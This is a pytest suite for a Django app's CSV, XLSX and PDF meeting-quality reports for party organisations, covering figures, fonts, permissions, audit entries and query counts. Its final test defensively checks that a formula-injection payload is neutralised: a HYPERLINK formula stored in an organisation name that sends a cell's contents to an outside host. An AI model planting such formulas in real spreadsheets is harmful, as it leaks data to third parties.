"""Reports of a month, a quarter or a year: their numbers in CSV, XLSX and PDF, the periods
refused, who may download them, the exports log and the query budget."""

import csv
import io
import logging
from datetime import date
from urllib.parse import unquote

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from chibo.audit.models import Action, Entry
from chibo.conftest import child, make_member
from chibo.meetings.models import Meeting
from chibo.meetings.tests.holding_data import count_queries
from chibo.meetings.tests.test_pdf import fonts_of, text_of
from chibo.quality import rollup
from chibo.quality.exports import to_pdf
from chibo.quality.reports import Period, build, latest
from chibo.quality.tests.conftest import CUONG, MAI, SON, VU, months_ago
from chibo.quality.tests.history import held

ENGLISH = {"Accept-Language": "en"}
WARD = "Đảng bộ phường Quang Trung"
COENG = "\u17d2"
# The CSV's columns: percentages in percent, one decimal.
ATTENDANCE = "Attendance (%)"
REGULAR = "Regular meeting held (%)"
THEMATIC = "Thematic meeting this quarter (%)"


def url(org, period: Period, fmt: str) -> str:
    return reverse("quality:report", args=[org.code, period.kind, period.year, period.number, fmt])


def last_month() -> Period:
    return latest("month", timezone.localdate())


def download(world, persona: str, org, period: Period, fmt: str, language: str = "en"):
    """The report for a reader of `language`, a PDF asked for in it too."""
    response = world.client(persona).get(
        url(org, period, fmt), {"language": language}, headers={"Accept-Language": language}
    )
    assert response.status_code == 200, response.content[:500]
    return response


def csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith("\ufeff".encode()), "Excel reads UTF-8 only after a BOM"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_csv_of_a_month(slipping):
    period = last_month()
    response = download(slipping, "committee", slipping.ward, period, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response.content)
    parts = [(row["Part"], row["Party organisation"]) for row in rows]
    assert parts[:5] == [
        ("Summary", WARD),
        ("Summary", WARD),
        ("Organisations", "Chi bộ khu 1"),
        ("Organisations", "Chi bộ khu 2"),
        ("Cells at risk", "Chi bộ khu 1"),
    ]
    summary, previous, cell, sister, risk = rows[:5]
    label = f"Month {months_ago(1):%m/%Y}"
    assert (summary["Period"], previous["Period"]) == (label, f"Month {months_ago(2):%m/%Y}")
    # Last month both cells met, three of their four members came; the month before only the
    # sister cell met, both its members there. Only the sister cell holds thematic meetings.
    assert [summary[k] for k in (REGULAR, THEMATIC, ATTENDANCE)] == ["100.0", "50.0", "75.0"]
    assert [previous[k] for k in (REGULAR, THEMATIC, ATTENDANCE)] == ["50.0", "50.0", "100.0"]
    assert summary["Documents' lead time (h)"] == "48.0"
    assert (cell[ATTENDANCE], sister[ATTENDANCE]) == ("50.0", "100.0")
    assert risk["Reasons"].startswith(
        "No regular meeting in 2 of the last 3 months; Attendance fell from 100% to 50%"
    )
    months = rows[5:]
    assert [row["Part"] for row in months] == ["Months"] * 12
    assert months[-1]["Period"] == f"{months_ago(1):%m/%Y}"
    assert months[-1][ATTENDANCE] == "75.0"


@pytest.fixture
def first_quarter(world):
    """Q1 2025: the cell met in January (both members) and February (one); the sister cell
    held a thematic meeting with its regular business in March, both members there."""
    held(world.cell, date(2025, 1, 10), [MAI, SON])
    held(world.cell, date(2025, 2, 10), [MAI])
    held(world.sister_cell, date(2025, 3, 10), [VU, CUONG], kind=Meeting.Kind.COMBINED)
    rollup.rebuild()
    return world


@pytest.mark.parametrize(
    ("period", "label", "previous"),
    [
        (Period("quarter", 2025, 1), "Quarter 1/2025", "Quarter 4/2024"),
        (Period("year", 2025, 1), "Year 2025", "Year 2024"),
    ],
)
def test_a_quarter_and_a_year_add_up_their_months(first_quarter, period, label, previous):
    rows = csv_rows(download(first_quarter, "admin", first_quarter.ward, period, "csv").content)
    summary, before = rows[:2]
    assert (summary["Period"], before["Period"]) == (label, previous)
    # Five of six members present; three regular meetings in six cell-months (a year: 24).
    assert summary[ATTENDANCE] == "83.3"
    regular = "50.0" if period.kind == "quarter" else "12.5"
    assert summary[REGULAR] == regular
    assert before[ATTENDANCE] == "", "nothing was recorded before"
    # Charted: the twelve months up to the period's end.
    charted = [row["Period"] for row in rows if row["Part"] == "Months"]
    assert len(charted) == 12 and charted[-1] == f"{period.last:%m/%Y}"


def test_the_workbook(slipping):
    response = download(slipping, "committee", slipping.ward, last_month(), "xlsx")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Summary", "Organisations", "Cells at risk", "Months"]
    summary = workbook["Summary"]
    assert summary["A1"].value == WARD
    lines = {row[0].value: row for row in summary.iter_rows(min_row=6)}
    attendance = lines["Attendance"]
    assert [c.value for c in attendance[1:4]] == [0.75, 1.0, 0.9]
    assert attendance[1].number_format == "0%"
    children = [[c.value for c in row[:4]] for row in workbook["Organisations"].iter_rows(2)]
    assert children == [["Chi bộ khu 1", 1.0, 0.0, 0.5], ["Chi bộ khu 2", 1.0, 1.0, 1.0]]
    risks = workbook["Cells at risk"]
    assert risks["A2"].value == "Chi bộ khu 1"
    assert risks["B2"].value.startswith("No regular meeting in 2 of the last 3 months\n")
    months = workbook["Months"]
    assert months.max_row == 13
    assert months["A13"].value.date() == months_ago(1).replace(day=1)
    assert months["D13"].value == 0.75
    assert len(months._charts) == 6


def test_the_pdf(slipping):
    response = download(slipping, "committee", slipping.ward, last_month(), "pdf")
    assert response["Content-Type"] == "application/pdf"
    text = text_of(response.content)
    for expected in [WARD, "Chi bộ khu 1", "Attendance", "75%", "Attendance fell from 100% to 50%"]:
        assert expected in text
    assert any(name.startswith("NotoSerif") for name in fonts_of(response.content))


def test_the_pdf_in_khmer(slipping):
    response = download(slipping, "committee", slipping.ward, last_month(), "pdf", "km")
    fonts = fonts_of(response.content)
    khmer = set().union(*(texts for name, texts in fonts.items() if "NotoSansKhmer" in name))
    # A subscript consonant (coeng + consonant) drawn as one glyph: only shaping makes these.
    assert any(len(text) == 2 and text[0] == COENG for text in khmer)
    assert WARD in text_of(response.content), "Vietnamese names stay right in a Khmer report"


def test_the_official_pdf_is_in_the_working_language(slipping):
    client = slipping.client("committee")
    address = url(slipping.ward, last_month(), "pdf")
    official = text_of(client.get(address, headers={"Accept-Language": "en"}).content)
    assert "Tỷ lệ dự họp" in official and "Attendance" not in official
    slipping.ward.language = "en"
    slipping.ward.save(update_fields=["language"])
    official = text_of(client.get(address, headers={"Accept-Language": "vi"}).content)
    assert "Attendance" in official and "Tỷ lệ dự họp" not in official
    refused = client.get(address, {"language": "de"}, headers={"Accept-Language": "en"})
    assert refused.status_code == 400 and "ask for Vietnamese (vi)" in refused.content.decode()


def test_the_reports_page_offers_the_pdf_in_the_readers_language(slipping):
    client = slipping.client("committee")
    address = reverse("quality:reports", args=[slipping.ward.code])
    page = client.get(address, headers={"Accept-Language": "km"}).content.decode()
    assert "?language=km" in page
    page = client.get(address, headers={"Accept-Language": "vi"}).content.decode()
    assert "?language=" not in page


def test_the_pdf_needs_no_system_fonts(slipping, monkeypatch, tmp_path, caplog):
    """The charts too are drawn with the bundled fonts, on a machine with none installed."""
    config = tmp_path / "fonts.conf"
    config.write_text(f"<fontconfig><cachedir>{tmp_path}</cachedir></fontconfig>")
    monkeypatch.setenv("FONTCONFIG_FILE", str(config))
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        content = to_pdf(build(slipping.ward, last_month(), timezone.localdate()))
    assert not caplog.records
    assert set(fonts_of(content)) == {"NotoSerif", "NotoSerifBold"}


def test_the_file_is_named_in_ascii_and_in_full(slipping):
    period = last_month()
    response = download(slipping, "committee", slipping.ward, period, "xlsx")
    ascii_part, full = response["Content-Disposition"].split("; filename*=UTF-8''")
    assert ascii_part == (
        f'attachment; filename="report-dang-bo-phuong-quang-trung-{period.slug}.xlsx"'
    )
    assert unquote(full) == f"Report {WARD} {period.slug}.xlsx"


def test_a_cell_has_its_own_report(slipping):
    rows = csv_rows(download(slipping, "secretary", slipping.cell, last_month(), "csv").content)
    assert [row["Part"] for row in rows[:3]] == ["Summary", "Summary", "Cells at risk"]
    assert rows[0][ATTENDANCE] == "50.0"


def test_each_export_goes_to_the_audit_log(slipping):
    period = last_month()
    download(slipping, "committee", slipping.ward, period, "xlsx")
    entry = Entry.objects.get(action=Action.REPORT_EXPORTED)
    assert (entry.username, entry.organisation_id) == ("cuong", slipping.ward.pk)
    assert entry.detail == {"format": "xlsx", "period": period.slug}


def refused(world, kind: str, year: int, number: int) -> str:
    """The page that says why the report cannot be made."""
    target = reverse("quality:report", args=[world.city.code, kind, year, number, "pdf"])
    response = world.client("committee").get(target, headers=ENGLISH)
    assert response.status_code == 400
    return response.content.decode()


@pytest.mark.parametrize(
    ("kind", "year", "number", "message"),
    [
        ("month", 2025, 13, "A month is numbered from 1 to 12."),
        ("month", 2025, 0, "A month is numbered from 1 to 12."),
        ("quarter", 2025, 5, "A quarter is numbered from 1 to 4."),
        ("year", 2025, 2, "A year has one report, number 1."),
        ("year", 1800, 1, "Reports begin in 1930."),
    ],
)
def test_a_period_that_does_not_exist_is_explained(world, kind, year, number, message):
    assert message in refused(world, kind, year, number)


def test_a_period_not_over_is_explained(world):
    today = timezone.localdate()
    for kind, year, number in [
        ("month", today.year, today.month),
        ("year", today.year, 1),
        ("year", today.year + 1, 1),
        ("year", 99_999_999_999, 1),
    ]:
        assert "This period is not over yet" in refused(world, kind, year, number)


@pytest.mark.parametrize("tail", ["week/2025/1.pdf", "month/2025/1.docx", "month/2025/x.pdf"])
def test_an_unknown_kind_or_format_is_not_found(world, tail):
    target = reverse("quality:reports", args=[world.city.code]) + tail
    assert world.client("committee").get(target).status_code == 404


def test_the_page_offers_the_latest_periods_and_sends_the_choice_on(world):
    page = reverse("quality:reports", args=[world.city.code])
    client = world.client("committee")
    response = client.get(page, headers=ENGLISH)
    assert response.status_code == 200
    latest_quarter = latest("quarter", timezone.localdate())
    assert url(world.city, latest_quarter, "pdf") in response.content.decode()
    chosen = client.get(page, {"kind": "quarter", "year": 2025, "number": 2, "format": "xlsx"})
    assert chosen.status_code == 302
    assert chosen["Location"] == url(world.city, Period("quarter", 2025, 2), "xlsx")
    wrong = client.get(page, {"kind": "month", "year": "abc", "number": 2, "format": "csv"})
    assert wrong.status_code == 400
    refused = client.get(page, {"kind": "quarter", "year": 2025, "number": 7, "format": "csv"})
    assert refused.status_code == 400


def test_the_dashboard_links_to_the_reports(world):
    response = world.client("committee").get(reverse("quality:dashboard", args=[world.city.code]))
    assert reverse("quality:reports", args=[world.city.code]) in response.content.decode()


@pytest.mark.parametrize(
    ("persona", "org", "status"),
    [
        ("outsider", "ward", 404),
        ("member", "ward", 404),
        ("member", "cell", 403),
        ("secretary", "cell", 200),
        ("supervisor", "cell", 200),
        ("supervisor", "ward", 404),
        ("committee", "ward", 200),
        ("committee", "other_city", 404),
        ("admin", "other_city", 200),
    ],
)
def test_who_may_download(world, persona, org, status):
    organisation = getattr(world, org)
    client = world.client(persona)
    assert client.get(url(organisation, last_month(), "csv")).status_code == status
    page = reverse("quality:reports", args=[organisation.code])
    assert client.get(page).status_code == status


def test_anonymous_users_sign_in_and_other_methods_are_refused(world):
    target = url(world.city, last_month(), "csv")
    response = Client().get(target)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    assert world.client("committee").post(target).status_code == 405


def test_the_query_count_does_not_grow_with_cells(slipping, django_capture_on_commit_callbacks):
    client = slipping.client("committee")
    targets = [url(slipping.ward, last_month(), fmt) for fmt in ("csv", "xlsx", "pdf")]
    small = [count_queries(client, target) for target in targets]
    for n in range(8):
        cell = child(slipping.ward, name=f"Chi bộ {n}", kind="cell", level=slipping.cell.level)
        make_member(cell, f"Đảng viên {n}")
        held(cell, months_ago(1), [])
    # Committed, as in use: the PDF kept for the indicators as they were is made anew.
    with django_capture_on_commit_callbacks(execute=True):
        rollup.rebuild()
    assert [count_queries(client, target) for target in targets] == small


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Open")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_name_comes_out_inert(slipping, fmt):
    slipping.sister_cell.__class__.objects.filter(pk=slipping.sister_cell.pk).update(name=FORMULA)
    content = download(slipping, "committee", slipping.ward, last_month(), fmt).content
    if fmt == "csv":
        names = [row["Party organisation"] for row in csv_rows(content)]
    else:
        sheet = load_workbook(io.BytesIO(content))["Organisations"]
        assert {cell.data_type for cell in sheet["A"]} == {"s"}, "no cell is a formula"
        names = [cell.value for cell in sheet["A"]]
    assert "'" + FORMULA in names and FORMULA not in names
